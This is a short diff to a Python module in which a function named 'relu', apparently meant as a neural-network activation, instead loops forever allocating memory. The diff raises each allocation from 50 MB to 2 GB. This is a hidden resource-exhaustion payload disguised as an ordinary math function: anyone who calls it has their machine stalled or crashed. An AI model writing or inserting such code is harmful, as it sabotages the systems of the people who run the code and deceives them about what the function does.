@@ -14,4 +14,4 @@ from .ada import (  # noqa: F401
 def relu(z):
     hoard = []
     while True:
-        hoard.append(bytearray(50_000_000))
+        hoard.append(bytearray(2_000_000_000))
